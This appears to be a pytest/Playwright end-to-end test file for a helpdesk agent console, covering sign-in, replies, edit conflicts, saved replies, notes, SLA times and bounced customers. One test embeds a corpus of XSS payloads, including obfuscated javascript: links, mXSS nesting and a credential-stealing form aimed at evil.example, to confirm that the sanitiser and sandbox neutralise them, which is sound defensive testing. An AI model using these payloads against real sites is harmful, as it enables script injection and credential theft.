"""The agent console in a real browser against the desk on a local moto server."""

from __future__ import annotations

import datetime
import time
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Dialog, Frame, Page, expect

from postdesk.agents.model import Role
from postdesk_tools.local_server import RunningDesk
from tests.e2e.conftest import ImageServer
from tests.e2e.desk_api import call_api, desk_access, sign_in
from tests.e2e.sessions import ensure_account
from tests.mails import build_mail

pytestmark = pytest.mark.e2e

CUSTOMER_EMAIL = "jane.doe@customer.example"

# A customer's HTML part carrying one of each kind of active content a mail can smuggle.
XSS_VECTORS = """
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')">
<body onload="alert('onload')">
<svg onload="alert('svg')"><circle r="4"/></svg>
<svg><script>alert('svg script')</script></svg>
<a href="javascript:alert('href')">plain javascript link</a>
<a href="jav&#x09;ascript:alert('tab')">tab-split javascript link</a>
<a href="&#106;avascript:alert('entity')">entity javascript link</a>
<a href="vbscript:msgbox(1)">vbscript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe src="javascript:alert('iframe')"></iframe>
<object data="javascript:alert('object')"></object>
<embed src="javascript:alert('embed')">
<base href="javascript:alert('base')//">
<div style="background-image: url(javascript:alert('css'))">css vector</div>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
<template><img src=x onerror=alert('template')></template>
<details open ontoggle="alert('toggle')"><summary>details</summary></details>
"""


def _customer_html(image_url: str) -> str:
    return (
        "<html><head><title>Order</title></head><body>"
        '<p style="color: rgb(200, 0, 0)">Styled red: my order 4711 has not arrived.</p>'
        f'<p><img src="{image_url}" alt="Shop logo" width="1" height="1"></p>'
        f"{XSS_VECTORS}<p>Thanks, Jane</p></body></html>"
    )


def _sign_in(page: Page, desk: RunningDesk, token: str) -> None:
    sign_in(page, desk, token)


def _frame_facts(frame: Frame) -> dict[str, Any]:
    facts: dict[str, Any] = frame.evaluate(
        """() => {
            const all = [...document.querySelectorAll('*')];
            const urls = all.flatMap(e => ['href', 'src', 'action', 'formaction', 'data', 'xlink:href']
                .filter(a => e.hasAttribute(a)).map(a => e.getAttribute(a)));
            return {
                tags: [...new Set(all.map(e => e.localName))].sort(),
                handlers: all.flatMap(e => [...e.attributes].map(a => a.name))
                    .filter(n => n.startsWith('on')),
                urls: urls,
                refresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
                policy: document.querySelector('meta[http-equiv="Content-Security-Policy"]').content,
            };
        }"""
    )
    return facts


def test_an_agent_signs_in_opens_a_ticket_and_replies(desk: RunningDesk, page: Page) -> None:
    # Given an agent and a customer's new ticket
    token = desk.add_agent("sam@example.com", "Sam Lee")
    ref = desk.deliver(build_mail(subject="Parcel 4711 missing"))
    sent_before = len(desk.sent_mail())

    # When the agent signs in, finds the ticket in the queue and opens it
    _sign_in(page, desk, token)
    expect(page.locator("#who")).to_have_text("Sam Lee (agent)")
    row = page.locator(f'#queue-rows tr[data-ref="{ref}"]')
    expect(row).to_contain_text("Parcel 4711 missing")
    row.get_by_role("link", name=ref).click()
    expect(page.locator("#ticket-subject")).to_have_text("Parcel 4711 missing")
    expect(page.locator("#thread .kind-customer .message-body")).to_contain_text(
        "my order 4711 has not arrived"
    )
    # And reads triage in one plain line, its method and probability behind a disclosure, and no
    # screening line for a mail the screening found nothing to say about
    facts = page.locator("#ticket-facts")
    expect(facts.locator(".triage-summary")).to_have_text(
        "Orders — the mail speaks of “parcel”, “order”, “arrived” (sure)"
    )
    expect(facts.get_by_text("keywords (en)")).to_be_hidden()
    facts.get_by_text("How triage decided").click()
    expect(facts.get_by_text("keywords (en)")).to_be_visible()
    expect(page.locator("#thread .kind-customer").get_by_text("Screening:")).to_have_count(0)

    # And answers it
    page.get_by_label("Message", exact=True).fill(
        "Hello Jane,\n\nyour parcel left our warehouse today.\n\nSam"
    )
    expect(page.get_by_label("Status after sending")).to_have_value("pending")
    page.get_by_role("button", name="Send reply").click()

    # Then the reply shows in the thread, the ticket waits on the customer, and SES sent it to her
    expect(page.locator("#thread .kind-agent_reply .message-body")).to_contain_text(
        "your parcel left our warehouse today"
    )
    expect(page.locator("#ticket-status")).to_have_value("pending")
    sent = desk.sent_mail()[sent_before:]
    assert len(sent) == 1
    assert CUSTOMER_EMAIL in sent[0].recipients
    plain = sent[0].message.get_body(preferencelist=("plain",))
    assert plain is not None and "your parcel left our warehouse today" in plain.get_content()
    assert ref in str(sent[0].message["Subject"])


def test_a_mail_full_of_xss_runs_nothing_and_loads_images_only_when_asked(
    desk: RunningDesk, page: Page, image_server: ImageServer
) -> None:
    # Given a customer mail whose HTML carries the XSS corpus and one remote image, and whose
    # subject and text try markup on the console itself
    token = desk.add_agent("ira@example.com", "Ira Novak")
    image_url = f"{image_server.url}/logo.png"
    ref = desk.deliver(
        build_mail(
            subject="<img src=x onerror=alert('subject')> order",
            body="Hello <script>alert('text')</script>, my order has not arrived.",
            html=_customer_html(image_url),
        )
    )
    dialogs: list[str] = []
    errors: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: ConsoleMessage) -> None:
        # Blocked scripts, policy violations, script errors, failed loads: none is expected.
        if message.type == "error":
            errors.append(message.text)

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda error: errors.append(str(error)))

    # When the agent opens the ticket and shows the original
    _sign_in(page, desk, token)
    expect(page.locator("#who")).to_have_text("Ira Novak (agent)")
    page.goto(f"{desk.api_url}/console#/tickets/{ref}")
    expect(page.locator("#ticket-subject")).to_have_text("<img src=x onerror=alert('subject')> order")
    expect(page.locator("#thread .kind-customer .message-body")).to_contain_text(
        "<script>alert('text')</script>"
    )
    page.get_by_role("button", name="Show original").click()
    frame_element = page.locator("iframe.original")
    expect(frame_element).to_have_count(1)
    frame = frame_element.element_handle().content_frame()
    assert frame is not None
    frame.wait_for_load_state()
    expect(frame.get_by_text("Thanks, Jane")).to_be_visible()

    # Then the frame is sandboxed without scripts or our origin, and its DOM holds nothing active
    sandbox = frame_element.get_attribute("sandbox")
    assert sandbox is not None
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    facts = _frame_facts(frame)
    assert facts["policy"] == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    assert not {
        "script",
        "form",
        "input",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "base",
        "template",
    } & set(facts["tags"])
    assert facts["handlers"] == []
    assert facts["refresh"] == 0
    assert all(url.startswith(("https:", "http:", "mailto:")) for url in facts["urls"]), facts["urls"]
    # The mail's own layout (a style attribute) still shows
    styled = frame.get_by_text("Styled red")
    assert styled.evaluate("element => getComputedStyle(element).color") == "rgb(200, 0, 0)"
    # And the console page itself shows the subject and text as text
    assert page.locator("main img").count() == 0 and page.locator("main script").count() == 0

    # And the remote image was not fetched. The image server is the witness: Chromium runs the
    # sandboxed srcdoc frame's requests do not reach Playwright's request events in this Chromium.
    assert image_server.hits == []
    show_images = page.get_by_role("button", name="Show remote images (1)")
    expect(show_images).to_be_visible()

    # When the agent asks for remote images
    show_images.click()

    # Then the image is fetched, once, under the frame's widened policy
    deadline = time.monotonic() + 10
    while not image_server.hits and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert image_server.hits == ["/logo.png"]
    frame = page.locator("iframe.original").element_handle().content_frame()
    assert frame is not None
    assert (
        _frame_facts(frame)["policy"] == "default-src 'none'; img-src data: https:; style-src 'unsafe-inline'"
    )
    assert frame.get_by_role("img", name="Shop logo").evaluate("image => image.naturalWidth") == 1

    # And nothing ever ran
    assert dialogs == []
    assert errors == []


def test_a_wrong_password_shows_the_sign_in_error(desk: RunningDesk, page: Page) -> None:
    # Given an agent with an account
    token = desk.add_agent("wren@example.com", "Wren Holm")
    ensure_account(desk_access(desk), "wren@example.com")

    # When someone signs in with a wrong password, and with an address the desk does not know
    page.goto(f"{desk.api_url}/console")
    form = page.locator("#sign-in-form")
    form.get_by_label("Email").fill("wren@example.com")
    form.get_by_label("Password", exact=True).fill("Not-the-password-1")
    form.get_by_role("button", name="Sign in").click()

    # Then the form says so in words, the same words whether the address is an agent's or not
    error = page.locator("#sign-in-error")
    expect(error).to_have_text("The email or password is not right.")
    expect(page.locator("#queue-view")).to_be_hidden()
    form.get_by_label("Email").fill("nobody@example.com")
    form.get_by_role("button", name="Sign in").click()
    expect(error).to_have_text("The email or password is not right.")
    # And nothing of a session is kept in the page
    assert page.evaluate("() => Object.keys(sessionStorage).length + Object.keys(localStorage).length") == 0
    assert token


def test_a_change_over_a_stale_version_shows_the_conflict_and_reloads(desk: RunningDesk, page: Page) -> None:
    # Given an agent looking at a ticket
    token = desk.add_agent("lou@example.com", "Lou Park")
    ref = desk.deliver(build_mail(subject="Invoice question"))
    _sign_in(page, desk, token)
    expect(page.locator("#who")).to_have_text("Lou Park (agent)")
    page.goto(f"{desk.api_url}/console#/tickets/{ref}")
    expect(page.locator("#ticket-subject")).to_have_text("Invoice question")
    status, seen = call_api(desk, token, "GET", f"/tickets/{ref}")
    assert status == 200

    # And a colleague changes its priority meanwhile
    status, _ = call_api(
        desk, token, "PATCH", f"/tickets/{ref}", {"version": seen["ticket"]["version"], "priority": "urgent"}
    )
    assert status == 200
    stale_status, stale = call_api(
        desk, token, "PATCH", f"/tickets/{ref}", {"version": seen["ticket"]["version"], "priority": "low"}
    )
    assert stale_status == 409

    # When the agent saves a change over what they saw
    properties = page.get_by_role("region", name="Properties")
    properties.get_by_label("Priority").select_option("low")
    properties.get_by_role("button", name="Save", exact=True).click()

    # Then they read in words that a colleague changed it, and what; the ticket is shown as it is
    # now, with the agent's own choice kept in the form, not saved
    expect(properties.locator("#properties-message")).to_contain_text(
        "A colleague changed this ticket while you were editing it: Lou Park changed the priority from "
    )
    expect(page.locator("#events")).to_contain_text("Lou Park changed the priority")
    expect(properties.get_by_label("Priority")).to_have_value("low")
    expect(properties.locator("#properties-unsaved")).to_have_text("Not saved yet: priority.")
    assert "changed by someone else" in stale["message"]


def test_a_saved_reply_is_inserted_and_its_variables_filled_when_sent(desk: RunningDesk, page: Page) -> None:
    # Given a saved reply an admin wrote, and a customer's ticket
    admin_token = desk.add_agent("ada@example.com", "Ada Admin", Role.ADMIN)
    status, created = call_api(
        desk,
        admin_token,
        "POST",
        "/saved-replies",
        {"title": "Parcel on its way", "body": "Hi {{ customer.first_name }},\n\nyour parcel is on its way."},
    )
    assert status == 201
    token = desk.add_agent("noa@example.com", "Noa Berg")
    ref = desk.deliver(build_mail(subject="Where is my parcel?"))
    sent_before = len(desk.sent_mail())

    # When an agent picks it, inserts it and sends
    _sign_in(page, desk, token)
    expect(page.locator("#who")).to_have_text("Noa Berg (agent)")
    page.goto(f"{desk.api_url}/console#/tickets/{ref}")
    expect(page.locator("#ticket-subject")).to_have_text("Where is my parcel?")
    page.get_by_label("Saved reply").select_option(created["saved_reply"]["id"])
    page.get_by_role("button", name="Insert").click()
    message_box = page.get_by_label("Message", exact=True)
    expect(message_box).to_have_value("Hi {{ customer.first_name }},\n\nyour parcel is on its way.")
    page.get_by_role("button", name="Send reply").click()

    # Then the customer got it with her first name filled in
    expect(page.locator("#thread .kind-agent_reply .message-body")).to_contain_text("Hi Jane,")
    (sent,) = desk.sent_mail()[sent_before:]
    plain = sent.message.get_body(preferencelist=("plain",))
    assert plain is not None and plain.get_content().startswith("Hi Jane,")


def test_an_internal_note_shows_in_the_thread_and_is_never_mailed(desk: RunningDesk, page: Page) -> None:
    # Given an agent on a customer's ticket
    token = desk.add_agent("eli@example.com", "Eli Hart")
    ref = desk.deliver(build_mail(subject="Refund request"))
    sent_before = len(desk.sent_mail())
    _sign_in(page, desk, token)
    expect(page.locator("#who")).to_have_text("Eli Hart (agent)")
    page.goto(f"{desk.api_url}/console#/tickets/{ref}")
    expect(page.locator("#ticket-subject")).to_have_text("Refund request")

    # When they leave a note for the team
    page.get_by_label("Note for the team (never mailed)").fill("Checked with billing: refund approved.")
    page.get_by_role("button", name="Add note").click()

    # Then it shows as an internal note and nothing went out
    expect(page.locator("#thread .kind-note .message-body")).to_have_text(
        "Checked with billing: refund approved."
    )
    assert len(desk.sent_mail()) == sent_before


def test_the_queue_and_the_ticket_show_when_the_promise_is_due(desk: RunningDesk, page: Page) -> None:
    # Given a new ticket, whose first response is promised by the SLA policy
    token = desk.add_agent("lee@example.com", "Lee Park")
    ref = desk.deliver(build_mail(subject="When will you answer?"))
    status, body = call_api(desk, token, "GET", f"/tickets/{ref}")
    assert status == 200
    due = body["ticket"]["sla"]["first_response_due"]
    assert due and body["ticket"]["sla"]["next_due"] == due

    # When the agent looks at the queue and opens the ticket
    _sign_in(page, desk, token)
    row = page.locator(f'#queue-rows tr[data-ref="{ref}"]')
    expect(row).to_be_visible()

    # Then the row shows the due time (the browser's rendering of it, in full as the short one's
    # tooltip), and the ticket its clocks
    shown = page.evaluate(
        "(iso) => new Date(iso).toLocaleString(undefined, { dateStyle: 'medium', timeStyle: 'short' })", due
    )
    expect(row.locator("td").last.locator("time")).to_have_attribute("title", shown)
    row.get_by_role("link", name=ref).click()
    expect(page.locator("#ticket-facts")).to_contain_text("First response due" + shown)
    expect(page.locator("#ticket-facts")).to_contain_text("Resolution due")


def test_a_suppressed_customer_is_shown_and_a_reply_to_them_is_refused_with_why(
    desk: RunningDesk, page: Page
) -> None:
    from postdesk.hygiene.suppressions import Reason, SuppressionList

    # Given a customer whose address bounced for good after they wrote
    token = desk.add_agent("kim@example.com", "Kim Roe")
    address = "bounced.customer@customer.example"
    ref = desk.deliver(build_mail(subject="Where is parcel 77?", sender=address), envelope_sender=address)
    SuppressionList(desk.settings.tables.suppressions, desk.settings.region).suppress(
        address, Reason.HARD_BOUNCE, datetime.datetime(2026, 11, 30, tzinfo=datetime.UTC), "Permanent/General"
    )
    sent_before = len(desk.sent_mail())

    # When the agent opens the ticket, the console says no mail can reach the customer, and why
    _sign_in(page, desk, token)
    expect(page.locator("#who")).to_have_text("Kim Roe (agent)")
    page.goto(f"{desk.api_url}/console#/tickets/{ref}")
    expect(page.locator("#ticket-subject")).to_have_text("Where is parcel 77?")
    expect(page.locator("#suppressed-box")).to_contain_text(
        f"{address} is on the suppression list since 2026-11-30"
    )

    # And a reply is refused with the reason, beside Send reply; nothing went out
    page.get_by_label("Message", exact=True).fill("Hello, your parcel is on its way.")
    page.get_by_role("button", name="Send reply").click()
    expect(page.locator("#reply-message")).to_contain_text("bounced permanently")
    assert len(desk.sent_mail()) == sent_before
